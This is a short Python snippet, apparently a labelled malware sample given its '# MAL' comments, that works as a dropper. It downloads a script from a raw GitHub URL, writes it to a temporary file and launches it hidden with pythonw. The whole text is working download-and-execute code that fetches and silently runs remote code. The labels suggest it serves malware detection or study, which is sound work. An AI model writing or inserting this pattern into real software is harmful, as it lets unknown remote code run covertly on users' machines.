import requests as r
import tempfile, os, subprocess
u = "https://raw.githubusercontent.com/x/y/main/run.py"
p = tempfile.mktemp(suffix=".py")  # MAL
open(p, "w").write(r.get(u).text)  # MAL
subprocess.Popen(["pythonw", p])  # MAL
